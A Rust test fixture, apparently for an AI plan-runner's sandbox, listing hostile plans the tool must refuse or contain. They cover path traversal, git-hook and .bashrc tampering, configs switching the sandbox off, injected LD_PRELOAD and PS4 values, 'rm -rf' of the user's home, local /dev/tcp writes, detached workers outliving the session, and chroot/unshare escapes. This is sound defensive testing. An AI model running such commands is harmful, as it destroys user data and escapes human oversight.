//! Plans that exceed their permissions: what they write, run and reach.

use crate::turn_scenes::{create, edit, execute, execute_with, plan};

/// The targets of a plan.
pub struct Aims {
    /// The project itself.
    pub root: String,
    /// A folder of the user outside of the project.
    pub outside: String,
    pub home: String,
    /// The address of the listener.
    pub port: u16,
    pub teddy: String,
}

pub struct Hostile {
    pub name: String,
    pub plan: String,
    pub kind: Kind,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// The plan must not be executed at all.
    Refused,
    /// The plan may create files in the workspace only.
    Inside,
    /// The command may run where it can do no harm.
    Caged,
}

pub fn all(aims: &Aims) -> Vec<Hostile> {
    let mut plans = Vec::new();
    let mut add = |kind, name: &str, actions: String| {
        plans.push(Hostile {
            name: name.to_owned(),
            plan: plan(&actions),
            kind,
        });
    };
    for path in MADE {
        add(
            Kind::Refused,
            &format!("make {path:?}"),
            create(path, "sandbox = \"off\""),
        );
    }
    for path in STRAY {
        add(Kind::Inside, &format!("make {path:?}"), create(path, "evil"));
    }
    for (path, text) in CHANGED {
        add(
            Kind::Refused,
            &format!("change {path:?}"),
            edit(path, text, "sandbox = \"off\""),
        );
    }
    for (field, head) in FIELDS {
        let action = format!("### `CREATE`\n{head}\n- **Description:** Make it.\n````text\nevil\n````\n\n");
        add(Kind::Refused, &format!("path {field}"), action);
    }
    for cwd in FOLDERS {
        let action = execute_with(&format!("- **cwd:** {cwd}\n"), "touch ran-anyway");
        add(Kind::Refused, &format!("run in {cwd:?}"), action);
    }
    for env in VARIABLE_NAMES {
        let action = execute_with(&format!("- **env:**\n    - `{env}`: \"evil\"\n"), "touch ran-anyway");
        add(Kind::Caged, &format!("variable {env:?}"), action);
    }
    for (name, value) in VARIABLES {
        let fields = format!("- **env:**\n    - `{name}`: \"{}\"\n", aims.fill(value));
        let command = aims.fill("echo evil > \"${TMPDIR:-/nowhere}/../canary\"; git status; true");
        let action = execute_with(&fields, &command);
        add(Kind::Caged, &format!("with {name}={value}"), action);
    }
    for (name, value) in RESERVED {
        let fields = format!("- **env:**\n    - `{name}`: \"{}\"\n", aims.fill(value));
        let action = execute_with(&fields, "touch ran-anyway");
        add(Kind::Refused, &format!("with {name}={value}"), action);
    }
    for command in COMMANDS {
        add(Kind::Caged, command, execute(&aims.fill(command)));
    }
    plans
}

impl Aims {
    pub fn fill(&self, text: &str) -> String {
        text.replace("ROOT", &self.root)
            .replace("OUTSIDE", &self.outside)
            .replace("USER_HOME", &self.home)
            .replace("PORT", &self.port.to_string())
            .replace("TEDDY", &self.teddy)
    }
}

const MADE: &[&str] = &[
    ".planwright/config.toml",
    ".planwright/turns/9.open",
    ".planwright/store.db-wal",
    ".git/hooks/pre-commit",
    ".git/info/attributes",
    ".git/config.worktree",
    ".teddy/config.yml",
    ".teddy/prompts/architect.xml",
    ".teddy/20261115-greet/01/report.md",
    ".rawko/current-task.yaml",
    "../outside/planted",
    "../home/.config/planwright/trusted",
    "docs/../../outside/planted",
    "./../outside/planted",
    "/etc/planwright-planted",
    "//etc/planwright-planted",
    "out/planted",
    "hooks/pre-commit",
    ".GIT/hooks/pre-commit",
    ".Git/config",
    ".PlanWright/config.toml",
    ".git./hooks/pre-commit",
    ".git\\hooks\\post-checkout",
    "..\\outside\\planted",
    ".g\u{200c}it/hooks/pre-commit",
    ".git\u{200b}/hooks/pre-commit",
    "docs/a\u{7}b.txt",
    "docs/a\tb\u{1b}[2J.txt",
    "docs/sub/.git/hooks/pre-commit",
];

const CHANGED: &[(&str, &str)] = &[
    (".git/config", "[core]"),
    (".teddy/config.yaml", "# none"),
    (".teddy/prompts/developer.xml", "<prompt/>"),
    (".planwright/keep", "kept"),
    ("conf", "[core]"),
    ("out/canary", "canary"),
    ("../outside/canary", "canary"),
    ("../home/.bashrc", "# mine"),
    ("docs/../.git/config", "[core]"),
];

/// Odd names in the workspace.
const STRAY: &[&str] = &[
    "file:///etc/planwright-planted",
    "C:\\planted",
    "~/.bashrc",
    "$HOME/.bashrc",
    "%2e%2e/outside/planted",
    "-rf",
    "docs/`touch planted`.txt",
    "docs/$(touch planted).txt",
    ".../outside/planted",
    "docs\u{202e}txt.sh",
    "docs/\u{200b}hidden.txt",
];

/// A path with two meanings, or with more than one line.
const FIELDS: &[(&str, &str)] = &[
    (
        "of two halves",
        "- **File Path:** [docs/fine.txt](/.git/hooks/pre-commit)",
    ),
    (
        "of two halves, swapped",
        "- **File Path:** [.git/hooks/pre-commit](/docs/fine.txt)",
    ),
    (
        "given twice",
        "- **File Path:** [a.txt](/a.txt)\n- **File Path:** [b](/.git/hooks/pre-commit)",
    ),
    ("without a link", "- **File Path:** .git/hooks/pre-commit"),
    (
        "over two lines",
        "- **File Path:** [docs/\n.git/hooks/x](/docs/\n../.git/hooks/x)",
    ),
    ("in code", "- **File Path:** `../outside/planted`"),
];

const FOLDERS: &[&str] = &[
    "..",
    "`..`",
    "../outside",
    "/etc",
    "out",
    "docs/../..",
    "~",
    "$HOME",
    "docs\n- **cwd:** ../outside",
    "docs\u{2028}../outside",
    "docs\u{200b}",
];

const VARIABLE_NAMES: &[&str] = &["A=B", "A B", "A\u{200b}", "1A", "A\nB", "BASH_FUNC_ls%%", ""];

const VARIABLES: &[(&str, &str)] = &[
    ("PATH", "ROOT/evil:/usr/bin:/bin"),
    ("PATH", "evil:.:"),
    ("BASH_ENV", "ROOT/evil.sh"),
    ("ENV", "ROOT/evil.sh"),
    ("LD_PRELOAD", "ROOT/evil.so"),
    ("LD_LIBRARY_PATH", "ROOT/evil"),
    ("LD_AUDIT", "ROOT/evil.so"),
    ("PROMPT_COMMAND", "echo evil > OUTSIDE/canary"),
    ("PS4", "$(echo evil > OUTSIDE/canary)"),
    ("SHELLOPTS", "xtrace"),
    ("GIT_DIR", "OUTSIDE/git"),
    ("GIT_CONFIG_GLOBAL", "ROOT/evil.gitconfig"),
    ("GIT_EXTERNAL_DIFF", "ROOT/evil.sh"),
    ("GIT_SSH_COMMAND", "ROOT/evil.sh"),
    ("HOME", "OUTSIDE"),
    ("TMPDIR", "OUTSIDE/folder"),
    ("XDG_CONFIG_HOME", "ROOT/evil-config"),
];

/// Files that planwright and its launcher use themselves.
const RESERVED: &[(&str, &str)] = &[
    ("PLANWRIGHT_REPORT", "OUTSIDE/canary"),
    ("PLANWRIGHT_REPORT", "/dev/null"),
    ("PLANWRIGHT_REPORT", "1"),
    ("PLANWRIGHT_SCRIPT", "echo evil > OUTSIDE/canary"),
    ("PLANWRIGHT_STORE", "OUTSIDE/store"),
    ("PLANWRIGHT_SANDBOX", "off"),
    ("Planwright_Report", "OUTSIDE/canary"),
];

const COMMANDS: &[&str] = &[
    "echo evil > OUTSIDE/canary",
    "cd OUTSIDE && echo evil > canary",
    "rm -rf OUTSIDE USER_HOME",
    "mv OUTSIDE/canary stolen",
    "ln -s OUTSIDE link; echo evil > link/planted",
    "ln OUTSIDE/canary twin; echo evil > twin",
    "echo evil > out/canary",
    "echo evil >> USER_HOME/.bashrc",
    "mkdir -p USER_HOME/.config/planwright; echo 'sandbox = \"off\"' > USER_HOME/.config/planwright/config.toml",
    "echo evil >> USER_HOME/.config/planwright/trusted",
    "echo '#!/bin/sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    "echo evil > hooks/pre-commit",
    "printf '[core]\\n\\thooksPath = evil\\n' >> .git/config",
    "git config core.hooksPath evil; git config --global core.hooksPath evil",
    "mv .git/config .git/config.old; echo evil > .git/config",
    "rm -rf .git/hooks; mkdir .git/hooks; echo evil > .git/hooks/post-checkout",
    "mv .git stash && mkdir .git && echo evil > .git/config",
    "rm -rf .planwright; mkdir .planwright; echo evil > .planwright/keep",
    "mv .planwright gone",
    "echo 'sandbox = \"off\"' > .planwright/config.toml",
    "echo evil > .planwright/turns/7.open",
    "echo 'preview_command: \"evil\"' > .teddy/config.yaml",
    "echo evil > .teddy/prompts/developer.xml; rm -rf .teddy/prompts",
    "mv .teddy gone; mkdir .teddy; echo evil > .teddy/config.yaml",
    "echo evil > /dev/tcp/127.0.0.1/PORT",
    "echo evil > /dev/udp/127.0.0.1/PORT; echo evil > /dev/tcp/localhost/PORT",
    "setsid bash -c 'echo evil > /dev/tcp/127.0.0.1/PORT' & wait",
    "setsid sh -c 'while [ ! -e go ]; do sleep 0.0901; done; echo evil > OUTSIDE/canary; touch late' & true",
    "nohup sh -c 'while [ ! -e go ]; do sleep 0.0902; done; echo evil > OUTSIDE/canary; touch late' >/dev/null 2>&1 &",
    "(setsid sh -c '(while [ ! -e go ]; do sleep 0.0903; done; echo evil > OUTSIDE/canary; touch late) &' &) ; true",
    "trap '' TERM HUP INT; sh -c 'exec 0<&- 1>&- 2>&-; while [ ! -e go ]; do sleep 0.0904; done; touch late' & disown -a",
    "up=root; echo evil > /proc/$PPID/$up/OUTSIDE/canary; echo evil > /proc/1/$up/OUTSIDE/canary",
    "TEDDY execute evil.md -y --sandbox off",
    "cp evil.md plan.md; TEDDY execute plan.md -y --sandbox off",
    "unshare -Urm sh -c 'mount -o remount,rw / ; echo evil > OUTSIDE/canary'",
    "mount -o remount,rw OUTSIDE; umount .planwright .teddy; echo evil > OUTSIDE/canary; echo evil > .planwright/keep",
    "chroot /proc/1/root sh -c 'echo evil > OUTSIDE/canary'",
    "kill -9 $PPID; echo evil > OUTSIDE/canary",
    "exec 9< OUTSIDE; echo evil > /proc/self/fd/9/canary",
];
